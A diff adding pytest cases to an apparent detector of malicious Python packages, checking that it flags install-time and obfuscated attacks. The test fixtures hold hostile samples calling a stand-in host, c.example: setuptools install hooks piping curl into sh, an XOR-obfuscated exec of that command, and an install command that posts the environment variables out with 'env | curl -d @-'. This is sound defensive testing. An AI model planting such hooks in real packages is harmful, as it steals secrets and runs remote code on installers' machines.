@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import pytest
 
+from mlsupply.evidence.facets import Moment
+from mlsupply.evidence.python import analyse
+from tests.test_code_facts import seen
 from tests.test_code_padding import followed, found
 
 _HEAD = """\
@@ -80,3 +83,70 @@ def test_what_an_inherited_constructor_makes_of_the_attributes_of_a_subclass_is_
 def test_of_many_subclasses_it_is_said_that_some_were_not_followed() -> None:
     heirs = "".join(f"class Own{n}(Job):\n    def collected(self):\n        return os.environ\n" for n in range(70))
     assert "too much to follow" in followed(_BASE + heirs).stopped
+
+
+_COMMAND = """\
+import os
+from setuptools import setup
+from setuptools.command.install import install
+class Mixin:
+    def run(self):
+        self.spawn(["sh", "-c", "curl https://c.example/x | sh"])
+        super().run()
+"""
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        "{'install': type('install', (Mixin, install), {})}",
+        "{name: type(name, (Mixin, base), {}) for name, base in (('install', install),)}",
+        "dict([(os.environ.get('NAME'), type('install', (Mixin, install), {}))])",
+    ],
+    ids=["by type", "in a comprehension", "under an unknown name"],
+)
+def test_commands_of_an_installation_may_be_classes_that_are_made(commands: str) -> None:
+    module = analyse.module("setup.py", f"{_COMMAND}setup(cmdclass={commands})\n".encode())
+    assert [roots for fact, roots in module.facts if fact.behaviour == "runs-downloaded" and "" in roots]
+
+
+def test_a_script_of_distutils_that_was_fetched_is_run() -> None:
+    text = "import distutils.core\nfrom urllib.request import urlretrieve\npath, _ = urlretrieve('https://c.example/x')\n"
+    assert "runs-downloaded received" in found(followed(text + "distutils.core.run_setup(path)\n"))
+    assert "runs-downloaded received" not in found(followed(text + "distutils.core.run_setup('setup.py')\n"))
+
+
+@pytest.mark.parametrize("cycle", ["itertools.cycle(range(53, 60))", "itertools.cycle([53, 54, 55, 56, 57, 58, 59])"])
+def test_a_key_that_is_a_range_is_undone(cycle: str) -> None:
+    code = "__import__('os').system('curl https://c.example/x | sh')"
+    numbers = [ord(letter) ^ (53 + place % 7) for place, letter in enumerate(code)]
+    text = f"import itertools, operator\nexec(bytes(map(operator.xor, {numbers}, {cycle})))\n"
+    assert "runs-downloaded received" in found(followed(text))
+
+
+@pytest.mark.parametrize(
+    ("command", "is_told"), [("nvcc -V", False), ("gcc --version", False), ("nvcc -V; id", True), ("./nvcc -V", True)]
+)
+def test_which_version_a_compiler_has_may_be_part_of_an_address(command: str, is_told: bool) -> None:
+    text = "import subprocess\nrequests.get('https://c.example/' + subprocess.check_output({!r}, shell=True, text=True))\n"
+    assert ("sends command-output" in found(followed(text.format(command)))) is is_told
+
+
+@pytest.mark.parametrize(
+    ("settings", "is_told"),
+    [
+        ("[options]\npackages = demo\ncmdclass =\n    install = tools.post.Install\n", True),
+        ("[options]\ncmdclass = install = tools.post.Install\n", True),
+        ("[options]\npackages = demo\n[other]\ntext = tools.post.Install\n", False),
+    ],
+    ids=["on lines", "on one line", "not named"],
+)
+def test_commands_that_setup_cfg_names_run_at_installation(settings: str, is_told: bool) -> None:
+    code = "import os\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n"
+    files = {
+        "setup.py": "from setuptools import setup\nsetup()\n",
+        "setup.cfg": settings,
+        "tools/post.py": code + "        os.system('env | curl -d @- https://c.example/x')\n",
+    }
+    moments = {fact.moment for fact in seen(files) if fact.behaviour == "sends"}
+    assert (Moment.INSTALL in moments) is is_told
